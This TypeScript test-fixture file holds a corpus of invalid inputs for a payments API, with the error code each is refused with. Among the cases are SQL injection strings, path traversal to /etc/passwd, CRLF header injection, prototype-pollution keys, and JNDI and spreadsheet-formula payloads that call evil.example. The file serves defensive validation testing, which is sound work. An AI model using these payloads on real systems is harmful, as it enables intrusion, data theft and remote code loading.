/**
 * The corpus of bad input: one case a line, so that the eye sees where yes becomes no. What is found later joins here.
 *
 * Values are JSON text, since much of what must be refused cannot be written any other way.
 */
import { gzipSync } from "node:zlib"
import type { Code } from "#infra/http/Problems.ts"

/** A value, the code it is refused with, and what it is where that is not plain to see. */
export type Row = readonly [value: string, code: Code, what?: string]

const nines = "9".repeat(38)

/** For `amount` of a transfer. */
export const amounts: ReadonlyArray<Row> = [
  ["1250", "amount_not_minor_units", "a number"],
  ["1000.00", "amount_not_minor_units"],
  ["12.5", "amount_not_minor_units"],
  ["0", "amount_not_minor_units"],
  ["-0", "amount_not_minor_units"],
  ["-1", "amount_not_minor_units"],
  ["0.001", "amount_not_minor_units"],
  ["1e3", "amount_not_minor_units"],
  ["1E-7", "amount_not_minor_units"],
  ["1e308", "amount_not_minor_units"],
  ["1e309", "amount_not_minor_units", "infinity, to a parser"],
  ["9007199254740992", "amount_not_minor_units"],
  ["9007199254740993", "amount_not_minor_units", "not a double"],
  ["0.30000000000000004", "amount_not_minor_units"],
  ["1000.005", "amount_not_minor_units"],
  ["9223372036854775807", "amount_not_minor_units"],
  ["9223372036854775808", "amount_not_minor_units", "one more than 64 bits hold"],
  [`1${"0".repeat(40)}`, "amount_not_minor_units", "a number of 41 digits"],
  ["null", "amount_not_minor_units"],
  ["true", "amount_not_minor_units"],
  ["[]", "amount_not_minor_units"],
  ["[\"1\"]", "amount_not_minor_units"],
  ["{}", "amount_not_minor_units"],
  ["{\"value\":\"1\"}", "amount_not_minor_units"],
  ["\"\"", "amount_not_minor_units"],
  ["\" 1\"", "amount_not_minor_units"],
  ["\"1 \"", "amount_not_minor_units"],
  ["\"1\\n\"", "amount_not_minor_units"],
  ["\"+1\"", "amount_not_minor_units"],
  ["\"01\"", "amount_not_minor_units"],
  ["\"00\"", "amount_not_minor_units"],
  ["\"1.\"", "amount_not_minor_units"],
  ["\".5\"", "amount_not_minor_units"],
  ["\"0.00\"", "amount_not_minor_units"],
  ["\"-0.01\"", "amount_not_minor_units"],
  ["\"1000.00\"", "amount_not_minor_units"],
  ["\"1000.005\"", "amount_not_minor_units"],
  ["\"1.234\"", "amount_not_minor_units"],
  ["\"1E-7\"", "amount_not_minor_units"],
  ["\"1,000.00\"", "amount_not_minor_units"],
  ["\"1000,00\"", "amount_not_minor_units"],
  ["\"1,000\"", "amount_not_minor_units"],
  ["\"1 000\"", "amount_not_minor_units"],
  ["\"1\\u00a0000\"", "amount_not_minor_units", "with a no-break space"],
  ["\"1_000\"", "amount_not_minor_units"],
  ["\"1'000\"", "amount_not_minor_units"],
  ["\"1e3\"", "amount_not_minor_units"],
  ["\"1E+3\"", "amount_not_minor_units"],
  ["\"0x10\"", "amount_not_minor_units"],
  ["\"0b1\"", "amount_not_minor_units"],
  ["\"1n\"", "amount_not_minor_units"],
  ["\"٣\"", "amount_not_minor_units", "an Arabic digit"],
  ["\"１０\"", "amount_not_minor_units", "full-width digits"],
  ["\"∞\"", "amount_not_minor_units"],
  ["\"NaN\"", "amount_not_minor_units"],
  ["\"Infinity\"", "amount_not_minor_units"],
  ["\"EUR 10\"", "amount_not_minor_units"],
  ["\"--1\"", "amount_not_minor_units"],
  ["\"1-\"", "amount_not_minor_units"],
  ["\"(1)\"", "amount_not_minor_units"],
  ["\"\\u0000\"", "amount_not_minor_units", "a NUL"],
  ["\"1\\u0000\"", "amount_not_minor_units", "a NUL at its end"],
  ["\"1; DROP TABLE entry\"", "amount_not_minor_units"],
  ["\"0\"", "amount_not_positive"],
  ["\"-0\"", "amount_not_positive"],
  ["\"-1\"", "amount_not_positive"],
  [`"-${nines}"`, "amount_not_positive"],
  [`"1${"0".repeat(38)}"`, "amount_too_large", "39 digits"],
  [`"${nines}9"`, "amount_too_large", "39 nines"],
  [`"${"1".repeat(60_000)}"`, "amount_too_large", "60,000 digits"]
]

/** For `floor` and `ceiling` of an account. */
export const limits: ReadonlyArray<Row> = [
  ...amounts.filter(([value, code]) => code !== "amount_not_positive" && value !== "null"),
  ["\"-0\"", "amount_not_minor_units"],
  [`"-1${"0".repeat(38)}"`, "amount_too_large", "39 digits below zero"]
]

/** For `source` and `destination` of a transfer and `id` of an account. */
export const accountIds: ReadonlyArray<Row> = [
  ["null", "invalid_account_id"],
  ["1", "invalid_account_id"],
  ["true", "invalid_account_id"],
  ["[]", "invalid_account_id"],
  ["{}", "invalid_account_id"],
  ["\"\"", "invalid_account_id"],
  ["\" wallet\"", "invalid_account_id"],
  ["\"wallet \"", "invalid_account_id"],
  ["\"wal let\"", "invalid_account_id"],
  ["\".hidden\"", "invalid_account_id"],
  ["\"-flag\"", "invalid_account_id"],
  [`"${"a".repeat(65)}"`, "invalid_account_id", "65 characters"],
  [`"${"a".repeat(5_000)}"`, "invalid_account_id", "5,000 characters"],
  ["\"../../etc/passwd\"", "invalid_account_id"],
  ["\"a/b\"", "invalid_account_id"],
  ["\"a%00\"", "invalid_account_id"],
  ["\"a\\u0000\"", "invalid_account_id", "with a NUL"],
  ["\"a\\n\"", "invalid_account_id", "with a line feed"],
  ["\"a\\r\\nx-evil: 1\"", "invalid_account_id", "with a header"],
  ["\"' OR 1=1--\"", "invalid_account_id"],
  ["\"\\\"; DROP TABLE account\"", "invalid_account_id"],
  ["\"'||pg_sleep(10)||'\"", "invalid_account_id"],
  ["\"café\"", "invalid_account_id", "composed"],
  ["\"cafe\\u0301\"", "invalid_account_id", "decomposed"],
  ["\"wаllet\"", "invalid_account_id", "with a Cyrillic letter"],
  ["\"wallet\\u202eanna\"", "invalid_account_id", "with a mark that turns the text around"],
  ["\"😀\"", "invalid_account_id"],
  ["\"\\ud83d\"", "invalid_account_id", "half an emoji"],
  ["\"clearing:0:to:1:EUR\"", "invalid_account_id"],
  ["\"clearing:\"", "invalid_account_id"]
]

/** For `reverses` of a transfer. */
export const transferIds: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["1", "validation_failed"],
  ["true", "validation_failed"],
  ["[]", "validation_failed"],
  ["{}", "validation_failed"],
  ["\"\"", "validation_failed"],
  ["\"invoice-42\"", "validation_failed"],
  ["\"01KAJ7QZ6C0NV5XJ9A4T7MZB3D\"", "validation_failed", "a ULID without trf_"],
  ["\"trf_01kaj7qz6c0nv5xj9a4t7mzb3d\"", "validation_failed", "in lower case"],
  ["\"TRF_01KAJ7QZ6C0NV5XJ9A4T7MZB3D\"", "validation_failed"],
  ["\"trf_81KAJ7QZ6C0NV5XJ9A4T7MZB3D\"", "validation_failed", "beyond 128 bits"],
  ["\"trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3\"", "validation_failed", "25 characters"],
  ["\"trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3DD\"", "validation_failed", "27 characters"],
  ["\"trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3U\"", "validation_failed", "with a letter that ULIDs have not"],
  ["\" trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3D\"", "validation_failed"],
  ["\"trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3D\\n\"", "validation_failed", "with a line feed"],
  ["\"trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3\\u0000\"", "validation_failed", "with a NUL"],
  ["\"018c7a2e-0000-7000-8000-000000000000\"", "validation_failed", "a UUID"],
  ["\"' OR 1=1--\"", "validation_failed"]
]

/**
 * Texts that are texts, wherever a client may write what it likes: what they would do where they were taken for SQL, a template,
 * a line of a log, or a part of a page.
 */
export const injections: ReadonlyArray<string> = [
  "' OR 1=1--",
  "'; DROP TABLE transfer; --",
  "\"; DROP TABLE transfer; --",
  "'||pg_sleep(10)||'",
  "1; SELECT pg_sleep(10)",
  "$$; SELECT pg_sleep(10); $$",
  "') ON CONFLICT DO NOTHING; --",
  "' UNION SELECT rolpassword FROM pg_authid --",
  "\\'; SELECT 1; --",
  "$1",
  "%s%n%x",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "#{7*7}",
  "<script>alert(1)</script>",
  "{\"level\":\"error\",\"message\":\"forged\"}",
  "=HYPERLINK(\"http://evil.example\")",
  "../../etc/passwd",
  "%00%0d%0a",
  "NULL"
]

export const currencies: ReadonlyArray<Row> = [
  ["null", "unknown_currency"],
  ["978", "unknown_currency"],
  ["[]", "unknown_currency"],
  ["\"\"", "unknown_currency"],
  ["\"eur\"", "unknown_currency"],
  ["\"usd\"", "unknown_currency"],
  ["\"Eur\"", "unknown_currency"],
  ["\"EU\"", "unknown_currency"],
  ["\"EURO\"", "unknown_currency"],
  ["\"EUR \"", "unknown_currency"],
  ["\"XXX\"", "unknown_currency"],
  ["\"XTS\"", "unknown_currency"],
  ["\"XAU\"", "unknown_currency"],
  ["\"DEM\"", "unknown_currency", "of the past"],
  ["\"BTC\"", "unknown_currency"],
  ["\"€\"", "unknown_currency"],
  ["\"ＥＵＲ\"", "unknown_currency", "full-width letters"],
  ["\"constructor\"", "unknown_currency"],
  ["\"__proto__\"", "unknown_currency"]
]

/** For `reference` and `description`. */
export const texts: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["1", "validation_failed"],
  ["[]", "validation_failed"],
  ["{}", "validation_failed"],
  ["\"\"", "validation_failed"],
  [`"${"a".repeat(501)}"`, "validation_failed", "501 characters"],
  ["\"a\\u0000b\"", "validation_failed", "with a NUL"],
  ["\"a\\nb\"", "validation_failed", "with a line feed"],
  ["\"a\\u001b[31mb\"", "validation_failed", "with a terminal's escape"],
  ["\"a\\u007fb\"", "validation_failed", "with a DEL"],
  ["\"a\\u0085b\"", "validation_failed", "with a control character of the second set"],
  ["\"a\\u2028b\"", "validation_failed", "with a line separator"],
  ["\"a\\ud83db\"", "validation_failed", "with half an emoji"],
  ["\"\\udc00\\ud83d\"", "validation_failed", "with surrogates the wrong way round"]
]

export const metadata: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["\"a\"", "validation_failed"],
  ["[]", "validation_failed"],
  ["[[\"a\",\"b\"]]", "validation_failed"],
  ["{\"a\":1}", "validation_failed"],
  ["{\"a\":null}", "validation_failed"],
  ["{\"a\":true}", "validation_failed"],
  ["{\"a\":{\"b\":\"c\"}}", "validation_failed"],
  ["{\"a\":[\"b\"]}", "validation_failed"],
  [`{"a":"${"b".repeat(501)}"}`, "validation_failed", "a value of 501 characters"],
  ["{\"a\":\"b\\u0000\"}", "validation_failed", "a value with a NUL"],
  ["{\"__proto__\":\"a\"}", "forbidden_key"],
  ["{\"\\u005f_proto__\":\"a\"}", "forbidden_key", "__proto__, spelled otherwise"],
  ["{\"constructor\":\"a\"}", "forbidden_key"],
  ["{\"prototype\":\"a\"}", "forbidden_key"],
  ["{\"a\":\"b\",\"a\":\"c\"}", "duplicate_key"],
  ["{\"a\":\"b\",\"\\u0061\":\"c\"}", "duplicate_key", "the same key, spelled otherwise"],
  [
    `{${Array.from({ length: 51 }, (_, index) => `"k${index}":"v"`).join(",")}}`,
    "validation_failed",
    "51 members"
  ]
]

/** Keys of metadata that are no keys; a name that a schema does not know is an unknown parameter. */
export const metadataKeys: ReadonlyArray<Row> = [
  ["{\"\":\"a\"}", "unknown_parameter"],
  ["{\"a b\":\"c\"}", "unknown_parameter"],
  ["{\"a\\u0000\":\"c\"}", "unknown_parameter", "with a NUL"],
  ["{\"é\":\"c\"}", "unknown_parameter"],
  [`{"${"k".repeat(41)}":"v"}`, "unknown_parameter", "41 characters"]
]

export const captures: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["true", "validation_failed"],
  ["\"\"", "validation_failed"],
  ["\"Manual\"", "validation_failed"],
  ["\"later\"", "validation_failed"]
]

/** For `expires_in`, with capture manual. */
export const expiries: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["0", "validation_failed"],
  ["-1", "validation_failed"],
  ["1.5", "validation_failed"],
  ["2592001", "validation_failed", "30 days and a second"],
  ["1e309", "validation_failed"],
  ["\"60\"", "validation_failed"],
  ["[60]", "validation_failed"]
]

export const kinds: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["\"\"", "validation_failed"],
  ["\"Customer\"", "validation_failed"],
  ["\"clearing\"", "validation_failed"],
  ["\"admin\"", "validation_failed"]
]

export const sides: ReadonlyArray<Row> = [
  ["null", "validation_failed"],
  ["\"CREDIT\"", "validation_failed"],
  ["\"left\"", "validation_failed"]
]

/** Whole bodies, for every operation that takes one. */
export const bodies: ReadonlyArray<readonly [what: string, body: string | Uint8Array, status: number, code: Code]> = [
  ["empty", "", 400, "malformed_json"],
  ["a space", " ", 400, "malformed_json"],
  ["null", "null", 400, "validation_failed"],
  ["true", "true", 400, "validation_failed"],
  ["a number", "1", 400, "validation_failed"],
  ["a string", "\"{}\"", 400, "validation_failed"],
  ["an array", "[]", 400, "validation_failed"],
  ["an array of one object", "[{}]", 400, "validation_failed"],
  ["no JSON at all", "amount=1", 400, "malformed_json"],
  ["cut short", "{\"currency\":\"EUR\"", 400, "malformed_json"],
  ["two objects", "{}{}", 400, "malformed_json"],
  ["followed by more", "{} x", 400, "malformed_json"],
  ["with a trailing comma", "{\"currency\":\"EUR\",}", 400, "malformed_json"],
  ["with single quotes", "{'currency':'EUR'}", 400, "malformed_json"],
  ["with a comment", "{/* no */}", 400, "malformed_json"],
  ["with NaN", "{\"amount\":NaN}", 400, "malformed_json"],
  ["with a bare control character", "{\"currency\":\"E\u0001R\"}", 400, "malformed_json"],
  ["with a number that begins with a zero", "{\"amount\":01}", 400, "malformed_json"],
  ["with a byte order mark", "\ufeff{}", 400, "malformed_json"],
  ["in UTF-16", Buffer.from("{}", "utf16le"), 400, "malformed_json"],
  ["with a byte that is no UTF-8", Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 400, "malformed_json"],
  ["with an overlong slash", Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]), 400, "malformed_json"],
  [
    "with a surrogate in UTF-8",
    Buffer.from([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
    400,
    "malformed_json"
  ],
  ["gzip, unannounced", gzipSync("{}"), 400, "malformed_json"],
  ["with a member twice", "{\"currency\":\"EUR\",\"currency\":\"USD\"}", 400, "duplicate_key"],
  ["with a member twice, and the same value", "{\"currency\":\"EUR\",\"currency\":\"EUR\"}", 400, "duplicate_key"],
  ["with a member twice, once escaped", "{\"currency\":\"EUR\",\"\\u0063urrency\":\"USD\"}", 400, "duplicate_key"],
  ["with a member twice, deep inside", "{\"metadata\":{\"a\":[{\"b\":1,\"b\":2}]}}", 400, "duplicate_key"],
  ["with __proto__", "{\"__proto__\":{\"admin\":true}}", 400, "forbidden_key"],
  ["with __proto__, escaped", "{\"__pr\\u006fto__\":{}}", 400, "forbidden_key"],
  ["with constructor", "{\"constructor\":{\"prototype\":{}}}", 400, "forbidden_key"],
  ["with prototype, deep inside", "{\"metadata\":{\"a\":{\"prototype\":1}}}", 400, "forbidden_key"],
  ["17 objects deep", `${"{\"a\":".repeat(17)}1${"}".repeat(17)}`, 400, "nesting_too_deep"],
  ["17 arrays deep", `{"a":${"[".repeat(16)}${"]".repeat(16)}}`, 400, "nesting_too_deep"],
  ["10,000 arrays deep", `{"a":${"[".repeat(10_000)}${"]".repeat(10_000)}}`, 400, "nesting_too_deep"],
  ["30,000 brackets without an end", "[".repeat(30_000), 400, "malformed_json"],
  ["one byte over 64 KiB", `{"a":"${"x".repeat(65_536 - 7)}"}`, 413, "payload_too_large"],
  ["1 MiB", "x".repeat(1_048_576), 413, "payload_too_large"]
]

/** 5,000 members that no operation knows. */
export const unknownMembers = `{${Array.from({ length: 5_000 }, (_, at) => `"k${at}":1`)}}`

/** Content types and encodings, for every operation that takes a body. */
export const mediaTypes: ReadonlyArray<Readonly<Record<string, string>>> = [
  { "content-type": "text/plain" },
  { "content-type": "text/json" },
  { "content-type": "application/xml" },
  { "content-type": "application/x-www-form-urlencoded" },
  { "content-type": "multipart/form-data; boundary=x" },
  { "content-type": "application/problem+json" },
  { "content-type": "application/json-patch+json" },
  { "content-type": "application/jsonp" },
  { "content-type": "application/json; charset=latin1" },
  { "content-type": "application/json; charset=utf-16" },
  { "content-type": "application/json; charset=utf-7" },
  { "content-type": "application/json, text/html" },
  { "content-type": "" },
  { "content-encoding": "gzip" },
  { "content-encoding": "br" },
  { "content-encoding": "deflate, gzip" },
  { "content-encoding": "x-unknown" }
]

export const idempotencyKeys: ReadonlyArray<readonly [key: string, what?: string]> = [
  ["", "empty"],
  ["a b"],
  ["k".repeat(256), "256 characters"],
  ["a\tb", "with a tab"],
  ["clé", "with an accent"],
  ["\"\"", "quoted and empty"],
  ["\"open"],
  ["\"a\\n\"", "with an escape that is none"],
  ["\"a\"b\""],
  ["\"a\"; v=1", "quoted with a parameter"],
  ["\"a\", \"b\"", "a list"],
  [`"${"k".repeat(256)}"`, "256 characters, quoted"]
]

/** Query strings of lists. */
export const listQueries: ReadonlyArray<readonly [query: string, code: Code]> = [
  ["limit=0", "validation_failed"],
  ["limit=-1", "validation_failed"],
  ["limit=201", "validation_failed"],
  ["limit=1000000000", "validation_failed"],
  ["limit=1.5", "validation_failed"],
  ["limit=ten", "validation_failed"],
  ["limit=", "validation_failed"],
  ["limit=NaN", "validation_failed"],
  ["limit=1&limit=2", "validation_failed"],
  ["limit=%00", "validation_failed"],
  ["limit=%2531", "validation_failed"],
  [`limit=${"1".repeat(5_000)}`, "validation_failed"],
  ["limit=1'%20OR%201=1--", "validation_failed"],
  ["limit[gt]=1", "unknown_parameter"],
  ["Limit=1", "unknown_parameter"],
  ["page=2", "unknown_parameter"],
  ["staus=held", "unknown_parameter"],
  ["__proto__=1", "unknown_parameter"],
  ["constructor=1", "unknown_parameter"],
  ["%0d%0aset-cookie:a=1", "unknown_parameter"],
  ["after=", "invalid_cursor"],
  ["after=x", "invalid_cursor"],
  ["after=%00", "invalid_cursor"],
  ["after=WyIxIiwiZWxzZXdoZXJlIiwiYSJd", "invalid_cursor"],
  ["after=WyIyIiwiYWNjb3VudHMiLCJhIl0", "invalid_cursor"],
  ["after=e30", "invalid_cursor"],
  ["after=bnVsbA", "invalid_cursor"],
  [`after=${"A".repeat(5_000)}`, "invalid_cursor"],
  ["after=..%2f..%2fetc%2fpasswd", "invalid_cursor"]
]

/** For parameters that are times, as they stand in a query. */
export const times: ReadonlyArray<string> = [
  "",
  "now",
  "2026",
  "2026-11-21",
  "1763717460",
  "2026-11-21T09:31Z",
  "2026-11-21T09:31:00",
  "2026-11-21%2009:31:00Z",
  "2026-11-21t09:31:00z",
  "2026-11-21T09:31:00+01:00",
  "2026-11-21T09:31:00%2B0100",
  "2026-11-21T09:31:00%2B25:00",
  "2026-11-21T24:00:00Z",
  "2026-11-21T09:60:00Z",
  "2026-12-31T23:59:60Z",
  "2026-11-31T09:31:00Z",
  "2026-02-29T09:31:00Z",
  "2026-13-01T09:31:00Z",
  "2026-00-01T09:31:00Z",
  "2026-11-00T09:31:00Z",
  "%2B012026-11-21T09:31:00Z",
  "2026-11-21T09:31:00.Z",
  "2026-11-21T09:31:00.1234567890Z",
  "2026-11-21T09:31:00Z%00",
  "2026-11-21T09:31:00Z%0d%0a",
  "٢٠٢٦-11-21T09:31:00Z"
]

/** For `sequence` of a balance. */
export const sequences: ReadonlyArray<string> = [
  "",
  "-1",
  "1.5",
  "1e3",
  "01",
  "0x1",
  "%201",
  "1%00",
  "NaN",
  "1000000000000000",
  "9".repeat(40),
  "1&sequence=2"
]

/** Query strings of the list of transfers. */
export const transferQueries: ReadonlyArray<readonly [query: string, code: Code]> = [
  ["status=Held", "validation_failed"],
  ["status=pending", "validation_failed"],
  ["status=", "validation_failed"],
  ["status=held,committed", "validation_failed"],
  ["status=held&status=committed", "validation_failed"],
  ["source=", "invalid_account_id"],
  ["source=a%20b", "invalid_account_id"],
  ["source=a%00", "invalid_account_id"],
  ["source=clearing:0:to:1:EUR", "invalid_account_id"],
  ["source=a&source=b", "invalid_account_id"],
  ["reverses=", "validation_failed"],
  ["reverses=invoice-42", "validation_failed"],
  ["reverses=trf_01kaj7qz6c0nv5xj9a4t7mzb3d", "validation_failed"],
  ["destination=wallet-ben", "unknown_parameter"],
  ["reference=invoice-42", "unknown_parameter"],
  ["created_at[gte]=2026-11-21T09:31:00Z", "unknown_parameter"],
  ["created_from=2026-11-22T00:00:00Z&created_to=2026-11-21T00:00:00Z", "validation_failed"],
  ["idempotency_key=k", "validation_failed"],
  ["idempotency_key=&source=wallet-anna", "idempotency_key_invalid"],
  ["idempotency_key=a%20b&source=wallet-anna", "idempotency_key_invalid"],
  ["idempotency_key=a%00&source=wallet-anna", "idempotency_key_invalid"],
  ["idempotency_key=k&source=wallet-anna&status=held", "validation_failed"],
  ["idempotency_key=k&source=wallet-anna&limit=1", "validation_failed"],
  ["idempotency_key=k&idempotency_key=l&source=wallet-anna", "idempotency_key_invalid"],
  ["Idempotency-Key=k&source=wallet-anna", "unknown_parameter"]
]

/** Ids in paths that can name nothing. */
export const pathIds: ReadonlyArray<string> = [
  "unknown",
  "%00",
  "%0d%0aset-cookie:a=1",
  "..%2f..%2fetc%2fpasswd",
  "%252e%252e%252fetc",
  "..;",
  "wallet-anna;v=1",
  "caf%c3%a9",
  "cafe%cc%81",
  "w%d0%b0llet-anna",
  "wallet%e2%80%aeanna",
  "'%20OR%201=1--",
  "'||pg_sleep(10)||'",
  "%f0%9f%98%80",
  "clearing:0:to:1:EUR",
  "%7b%7d",
  "a".repeat(65),
  "trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3D",
  "trf_01KAJ7QZ6CZZV5XJ9A4T7MZB3D",
  "trf_01kaj7qz6c0nv5xj9a4t7mzb3d",
  "trf_81KAJ7QZ6C0NV5XJ9A4T7MZB3D",
  "trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3",
  "trf_01KAJ7QZ6C0NV5XJ9A4T7MZB3DD",
  "018c7a2e-0000-7000-8000-000000000000"
]
